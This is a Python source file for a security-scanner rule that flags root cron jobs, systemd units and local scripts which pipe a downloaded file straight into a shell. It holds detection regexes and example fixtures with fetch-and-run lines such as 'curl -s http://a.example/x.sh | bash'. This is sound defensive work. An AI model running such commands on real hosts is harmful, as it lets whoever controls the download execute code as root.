"""Downloads that root hands to a shell

## What it is

A job or script of root's fetches a text from the network and has a shell run it at once: `curl http://… | sh`, `sh -c
"$(wget …)"`.

## Why it matters

Whoever can change the answer, on the way when it is plain http or unchecked, or else at the server, runs what they like as
root, at every run of the job (ATT&CK T1105, T1059.004, T1195).

## How to fix it

Install it as a package, or keep a copy that was read; if it must be fetched, then by https, into a file, and compared with
a known hash before it is run.
"""

import re
from collections.abc import Iterator

from casemate.host.host import Host
from casemate.leads.posture.rule import FactRule, Seen
from casemate.leads.rule import Example
from casemate.model.host import NodeKind
from casemate.model.lead import RuleId, Severity

JOBS = (
    "/etc/crontab",
    "/etc/cron.d/*",
    "/etc/cron.hourly/*",
    "/etc/cron.daily/*",
    "/etc/cron.weekly/*",
    "/etc/cron.monthly/*",
    "/var/spool/cron/crontabs/root",
    "/var/spool/cron/root",
    "/etc/crontabs/root",
    "/etc/periodic/*/*",
    "/etc/rc.local",
    "/etc/rc.d/rc.local",
    "/etc/systemd/system/*.service",
    "/etc/systemd/system/*.service.d/*.conf",
    "/usr/lib/systemd/system/*.service",
)
SCRIPTS = ("/usr/local/bin/*", "/usr/local/sbin/*")
LONGEST, LARGEST = 4096, 1 << 18
FETCH = r"\b(?:curl|wget|fetch|lwp-download|aria2c)\s[^|;&#]{0,2000}"
SHELL = r"(?:\S*/)?(?:(?:ba|da|a|z|k)?sh|python[\d.]*|perl|ruby|php|node)\b"
PIPED = re.compile(
    rf"{FETCH}\|\s*(?:(?:sudo|env|exec|nohup|command)\s+(?:-\S+\s+|\w+=\S*\s+)*)*{SHELL}"
    rf"|{SHELL}\s+(?:-\S+\s+)*[\"']?(?:\$\(|<\(|`)\s*{FETCH}"
    rf"|(?:eval|source|\.)\s+[\"']?(?:\$\(|<\(|`)\s*{FETCH}"
)
UNCHECKED = re.compile(r"\bhttp://|\bftp://|\s-\w*k\b|--insecure\b|--no-check-certificate\b")


def find(host: Host) -> Iterator[Seen]:
    """Such lines of jobs, and of the host's own scripts."""
    for patterns, severity in ((JOBS, Severity.MEDIUM), (SCRIPTS, Severity.LOW)):
        for path in (path for pattern in patterns for path in host.fs.glob(pattern)):
            node = host.fs.node(path)
            if node is None or node.kind is not NodeKind.FILE or node.size > LARGEST:
                continue
            if severity is Severity.LOW and (host.fs.data(path, LARGEST) or b"")[:2] != b"#!":
                continue
            text = host.fs.text(path)
            for number, line in text.numbered() if text else ():
                if len(line) > LONGEST or line.lstrip().startswith("#"):
                    continue
                found = PIPED.search(line)
                if found:
                    bare = UNCHECKED.search(found[0]) is not None
                    how = "over a connection that nobody checks" if bare else "from another host"
                    yield Seen(
                        path=path,
                        line=number,
                        what=f"{path} fetches a program {how} and has a shell run it at once",
                        severity=Severity.HIGH if bare else severity,
                    )


RULE = FactRule(
    id=RuleId("piped-download"),
    title="Download that root hands to a shell",
    cwe=494,
    owasp="A08:2021",
    severity=Severity.HIGH,
    message="{what}",
    find=find,
    examples=(
        Example(
            name="a job",
            language="host",
            code="# file: /etc/cron.d/sync\n0 * * * * root curl -s http://a.example/x.sh | bash  # finding\n",
        ),
        Example(
            name="a script, in a substitution",
            language="host",
            code='# file: /usr/local/sbin/setup 0755\n#!/bin/sh\nsh -c "$(wget -qO- https://a.example/x)"  # finding\n',
        ),
        Example(
            name="near-miss: into a file",
            language="host",
            code="# file: /etc/cron.d/sync\n0 * * * * root curl -so /var/lib/x/list https://a.example/list\n",
        ),
        Example(
            name="near-miss: to a program that reads data",
            language="host",
            code="# file: /etc/cron.d/sync\n0 * * * * root curl -s https://a.example/x.json | jq . | shasum\n",
        ),
        Example(
            name="near-miss: a comment",
            language="host",
            code="# file: /etc/rc.local 0755\n#!/bin/sh\n# curl http://a/ | sh\n",
        ),
    ),
)
